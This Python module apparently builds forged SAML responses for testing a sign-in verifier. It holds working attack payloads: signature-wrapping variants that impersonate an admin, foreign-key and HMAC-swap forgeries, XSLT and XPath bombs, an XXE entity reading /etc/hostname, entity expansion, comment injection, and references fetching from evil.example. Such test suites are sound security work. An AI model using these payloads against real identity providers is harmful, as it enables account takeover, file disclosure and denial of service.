"""Attacks on SAML sign-in: each function crafts one document from a genuine one.

XSW numbers follow Somorovsky and others, "On Breaking SAML" (USENIX Security 2012).
"""

import base64
import hashlib
import hmac
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, replace
from datetime import timedelta
from typing import Any, cast

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from auth.saml.gate import DS, SAML, SAMLP, XENC
from auth.saml.parties import IdentityProvider, ServiceProvider
from auth.saml.request import new_sp_key
from core.clock import utcnow
from reference.idp import config as idp_side
from reference.idp.response import Answer, encrypt_assertion, resign, sign_element, unsigned_response

ACS = "https://acme.derma.example/auth/saml/acs"
SP_ENTITY = "https://acme.derma.example/auth/saml/metadata"
IDP_ENTITY = "https://idp.example/metadata"
REQUEST_ID = "_a-request-of-ours"
EVIL = "u-admin@acme.derma.example"
XMLDSIG_MORE = "http://www.w3.org/2001/04/xmldsig-more#"


@dataclass(frozen=True)
class Scene:
    """A tenant, its identity provider, and a key that belongs to neither."""

    sp: ServiceProvider
    idp: IdentityProvider
    registered: idp_side.ServiceProvider
    key: idp_side.SigningKey
    foreign: idp_side.SigningKey

    @classmethod
    def build(cls) -> "Scene":
        key = idp_side.SigningKey.generate()
        private_key, certificate = new_sp_key(SP_ENTITY)
        return cls(
            ServiceProvider(SP_ENTITY, ACS, private_key, certificate),
            IdentityProvider(IDP_ENTITY, "https://idp.example/sso", (key.certificate_pem.decode(),)),
            idp_side.ServiceProvider(SP_ENTITY, ACS, certificate.encode()),
            key,
            idp_side.SigningKey.generate(),
        )

    def answer(self, **changes: Any) -> Answer:
        user = idp_side.User("u-gp", "gp@acme.derma.example", "Gerd Hausmann", ("derma-referrers",))
        return replace(Answer(IDP_ENTITY, self.registered, user, REQUEST_ID), **changes)

    def signed(self, sign: str = "assertion", **changes: Any) -> etree._Element:
        return self.sign(unsigned_response(self.answer(**changes)), sign)

    def sign(self, root: etree._Element, sign: str = "assertion") -> etree._Element:
        sign_element(root if sign == "response" else find(root, SAML + "Assertion"), self.key)
        return root

    def expired_certificate(self) -> str:
        """The provider's key under a certificate that ended yesterday."""
        key = serialization.load_pem_private_key(self.key.private_pem, None)
        assert isinstance(key, rsa.RSAPrivateKey)
        name = x509.load_pem_x509_certificate(self.key.certificate_pem).subject
        return (
            x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
            .not_valid_before(utcnow() - timedelta(days=2))
            .not_valid_after(utcnow() - timedelta(days=1))
            .sign(key, hashes.SHA256())
            .public_bytes(serialization.Encoding.PEM)
            .decode()
        )


Craft = Callable[[Scene], bytes]


def find(root: etree._Element, tag: str) -> etree._Element:
    """The first such descendant, by XPath: lxml's find does not see what xmlsec put into the tree."""
    namespace, _, name = tag[1:].partition("}")
    found = cast(list[etree._Element], root.xpath(f".//n:{name}", namespaces={"n": namespace}))
    assert found, tag
    return found[0]


def before_signing(edit: Callable[[etree._Element], Any], **changes: Any) -> Craft:
    """What the identity provider itself signs: only exact comparison can catch it."""

    def craft(scene: Scene) -> bytes:
        root = unsigned_response(scene.answer(**changes))
        edit(root)
        return etree.tostring(scene.sign(root))

    return craft


def after_signing(edit: Callable[[etree._Element], Any], sign: str = "assertion") -> Craft:
    def craft(scene: Scene) -> bytes:
        root = scene.signed(sign)
        edit(root)
        return etree.tostring(root)

    return craft


def encrypted(craft: Craft) -> Craft:
    """The same document with its assertion encrypted to the tenant's public certificate, as anyone can do."""

    def wrapped(scene: Scene) -> bytes:
        root = etree.fromstring(craft(scene))
        encrypt_assertion(find(root, SAML + "Assertion"), scene.sp.certificate_pem.encode())
        return etree.tostring(root)

    return wrapped


def attribute_flood(root: etree._Element) -> None:
    """Canonicalization and schema checking are quadratic in an element's attributes."""
    value = find(root, SAML + "AttributeValue")
    for number in range(8_000):
        value.set(f"a{number}", "")


def element_flood(root: etree._Element) -> None:
    statement = find(root, SAML + "AttributeStatement")
    for _ in range(3_000):
        etree.SubElement(statement, SAML + "Attribute", Name="x")


def setting(tag: str, name: str, value: str | None) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        element = root if tag == root.tag else find(root, tag)
        if value is None:
            del element.attrib[name]
        else:
            element.set(name, value)

    return edit


def text(tag: str, value: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        find(root, tag).text = value

    return edit


def without(tag: str) -> Callable[[etree._Element], None]:
    return lambda root: _remove(find(root, tag))


def twice(tag: str) -> Callable[[etree._Element], None]:
    return lambda root: find(root, tag).addnext(deepcopy(find(root, tag)))


def renamed(tag: str, name: str) -> Callable[[etree._Element], None]:
    return lambda root: setattr(find(root, tag), "tag", name)


def second_audience(root: etree._Element) -> None:
    """Restrictions are joined by "and": the second one excludes us."""
    twice(SAML + "AudienceRestriction")(root)
    find(root, SAML + "Audience").text = "https://globex.derma.example/auth/saml/metadata"


def child_in(tag: str) -> Callable[[etree._Element], Any]:
    return lambda root: etree.SubElement(find(root, tag), DS + "Manifest")


def issued(ago: timedelta) -> Craft:
    return lambda scene: etree.tostring(scene.signed(issued_at=utcnow() - ago))


# Wrapping


def _evil(element: etree._Element) -> etree._Element:
    """A copy that says what the attacker wants, unsigned and under names of its own."""
    copy = deepcopy(element)
    for element in list(copy.iter()):
        if element.tag == DS + "Signature":
            _remove(element)
        elif element.tag in (SAMLP + "Response", SAML + "Assertion"):
            element.set("ID", element.get("ID", "") + "e")
    find(copy, SAML + "NameID").text = EVIL
    return copy


def _remove(element: etree._Element) -> None:
    parent = element.getparent()
    assert parent is not None
    parent.remove(element)


def xsw(number: int, sign: str) -> Craft:
    def craft(scene: Scene) -> bytes:
        root = scene.signed(sign)
        assertion, signature = find(root, SAML + "Assertion"), find(root, DS + "Signature")
        if number in (1, 2):
            evil_root = _evil(root)
            if sign == "response":
                _remove(signature)
            signature = deepcopy(signature)
            find(evil_root, SAML + "Issuer").addnext(signature)
            if number == 1:
                signature.append(root)
            else:
                signature.addprevious(root)
            return etree.tostring(evil_root)

        evil = _evil(assertion)
        if number == 3:
            assertion.addprevious(evil)
        elif number == 4:
            assertion.addprevious(evil)
            evil.append(assertion)
        elif number == 7:
            extensions = etree.Element(SAMLP + "Extensions")
            extensions.append(evil)
            find(root, SAML + "Issuer").addnext(extensions)
        else:
            _remove(signature)
            assertion.addprevious(evil)
            find(evil, SAML + "Issuer").addnext(signature)
            if number == 5:
                root.append(assertion)
            elif number == 6:
                signature.append(assertion)
            else:
                etree.SubElement(signature, DS + "Object").append(assertion)
        return etree.tostring(root)

    return craft


def duplicate_ids(root: etree._Element) -> None:
    assertion = find(root, SAML + "Assertion")
    evil = _evil(assertion)
    evil.set("ID", assertion.get("ID", ""))
    assertion.addprevious(evil)


def two_assertions(root: etree._Element) -> None:
    assertion = find(root, SAML + "Assertion")
    assertion.addnext(_evil(assertion))


def signature_in_subject(root: etree._Element) -> None:
    find(root, SAML + "Subject").append(find(root, DS + "Signature"))


def two_signatures(root: etree._Element) -> None:
    signature = find(root, DS + "Signature")
    signature.addnext(deepcopy(signature))


# Signatures


def unsigned(scene: Scene) -> bytes:
    return etree.tostring(unsigned_response(scene.answer()))


def foreign_key(scene: Scene) -> bytes:
    """Signed by the attacker, whose certificate and public key stand ready in KeyInfo."""
    root = unsigned_response(scene.answer())
    assertion = find(root, SAML + "Assertion")
    find(assertion, SAML + "NameID").text = EVIL
    sign_element(assertion, scene.foreign)
    numbers = (
        x509.load_pem_x509_certificate(scene.foreign.certificate_pem).public_key().public_numbers()  # type: ignore[union-attr]
    )
    key_value = etree.SubElement(find(root, DS + "KeyInfo"), DS + "KeyValue")
    rsa_value = etree.SubElement(key_value, DS + "RSAKeyValue")
    for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):  # type: ignore[union-attr]
        raw = number.to_bytes((number.bit_length() + 7) // 8, "big")
        etree.SubElement(rsa_value, DS + name).text = base64.b64encode(raw).decode()
    return etree.tostring(root)


def hmac_swap(scene: Scene) -> bytes:
    """A MAC keyed with what everybody knows: the provider's certificate."""
    root = scene.signed()
    find(root, DS + "SignatureMethod").set("Algorithm", XMLDSIG_MORE + "hmac-sha256")
    signed_info = etree.tostring(find(root, DS + "SignedInfo"), method="c14n", exclusive=True)
    mac = hmac.new(scene.key.certificate_pem, signed_info, hashlib.sha256)
    find(root, DS + "SignatureValue").text = base64.b64encode(mac.digest()).decode()
    return etree.tostring(root)


def resigned(edit: Callable[[etree._Element], Any]) -> Craft:
    """A signature template edited and then computed by the provider's own key: cryptographically sound."""

    def craft(scene: Scene) -> bytes:
        root = scene.signed()
        edit(root)
        resign(find(root, DS + "Signature"), scene.key)
        return etree.tostring(root)

    return craft


def retrieval_method(root: etree._Element) -> None:
    key_info = find(root, DS + "KeyInfo")
    etree.SubElement(key_info, DS + "RetrievalMethod", URI="https://evil.example/key")


def second_reference(root: etree._Element) -> None:
    reference = find(root, DS + "Reference")
    reference.addnext(deepcopy(reference))


def hmac_output_length(root: etree._Element) -> None:
    etree.SubElement(find(root, DS + "SignatureMethod"), DS + "HMACOutputLength").text = "8"


def manifest(root: etree._Element) -> None:
    etree.SubElement(find(root, DS + "Signature"), DS + "Object").text = "anything"


# Programs in a signature. Both burn many seconds where a verifier runs them.

_XSLT = """
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<xsl:for-each select="//. | //@*"><xsl:for-each select="//. | //@*"><xsl:for-each select="//. | //@*">
<xsl:for-each select="//. | //@*"><xsl:if test="count(//. | //@*) = 0">x</xsl:if></xsl:for-each>
</xsl:for-each></xsl:for-each></xsl:for-each></xsl:template></xsl:stylesheet>
"""
_STEP = "//. | //@* | //namespace::*"
_XPATH = f"count(({_STEP})[count(({_STEP})[count(({_STEP})[count({_STEP}) > 1]) > 1]) > 1]) > 1"


def _transform(root: etree._Element, algorithm: str) -> etree._Element:
    transforms = find(root, DS + "Transforms")
    transform = etree.Element(DS + "Transform", Algorithm=algorithm)
    transforms.insert(0, transform)
    return transform


def xslt_bomb(root: etree._Element) -> None:
    _transform(root, "http://www.w3.org/TR/1999/REC-xslt-19991116").append(etree.fromstring(_XSLT))


def xpath_bomb(root: etree._Element) -> None:
    transform = _transform(root, "http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(transform, DS + "XPath").text = _XPATH


# Void canonicalization


def relative_namespace(scene: Scene) -> bytes:
    root = etree.tostring(scene.signed())
    return root.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:void="1" ', 1)


def inclusive_transform(root: etree._Element) -> None:
    find(root, DS + "Transforms")[1].set("Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")


# Text that two readers see differently


def comment_in(tag: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        element = find(root, tag)
        value = element.text or ""
        element.text = value[:3]
        comment = etree.Comment("x")
        comment.tail = value[3:]
        element.append(comment)

    return edit


def element_in(tag: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        element = find(root, tag)
        etree.SubElement(element, "{urn:x}x").tail = ".evil.example"

    return edit


def instruction(root: etree._Element) -> None:
    find(root, SAML + "NameID").append(etree.ProcessingInstruction("x"))


def doctype(declaration: str, encoding: str = "utf-8") -> Craft:
    def craft(scene: Scene) -> bytes:
        document = etree.tostring(scene.signed(), encoding="unicode").replace(">u-gp<", ">&x;<")
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        return f"{head}<!DOCTYPE r [{declaration}]>{document}".encode(encoding)

    return craft


XXE = '<!ENTITY x SYSTEM "file:///etc/hostname">'
EXPANSION = '<!ENTITY a "aaaaaaaaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{f"&{below};" * 16}">' for name, below in zip("bcdefgx", "abcdefg", strict=True)
)

# Encryption


def encrypted_to_stranger(scene: Scene) -> bytes:
    root = scene.signed()
    encrypt_assertion(find(root, SAML + "Assertion"), scene.foreign.certificate_pem)
    return etree.tostring(root)


def cipher_reference(root: etree._Element) -> None:
    """Ciphertext that is fetched, and transformed by a program, before anything is decrypted."""
    data = find(root, XENC + "CipherData")
    data[:] = [etree.Element(XENC + "CipherReference", URI="https://evil.example/")]


def key_transport_1_5(root: etree._Element) -> None:
    method = find(find(root, XENC + "EncryptedKey"), XENC + "EncryptionMethod")
    method.set("Algorithm", "http://www.w3.org/2001/04/xmlenc#rsa-1_5")


def edited(craft: Craft, edit: Callable[[etree._Element], Any]) -> Craft:
    def wrapped(scene: Scene) -> bytes:
        root = etree.fromstring(craft(scene))
        edit(root)
        return etree.tostring(root)

    return wrapped


def genuine(scene: Scene) -> bytes:
    return etree.tostring(scene.signed())


def encrypted_twice(scene: Scene) -> bytes:
    root = etree.fromstring(encrypted(genuine)(scene))
    encrypt_assertion(find(root, SAML + "EncryptedAssertion"), scene.sp.certificate_pem.encode())
    return etree.tostring(root)
